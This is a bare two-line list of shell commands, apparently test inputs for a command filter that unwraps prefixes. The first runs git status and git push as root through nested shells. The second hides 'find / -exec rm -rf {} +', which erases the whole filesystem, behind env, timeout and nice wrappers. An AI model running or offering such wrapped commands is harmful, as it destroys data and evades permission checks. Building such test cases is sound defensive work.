sudo -u root bash -lc "bash -c 'git status && git push'"
env A=1 timeout 5 nice -n 3 find / -exec rm -rf {} +
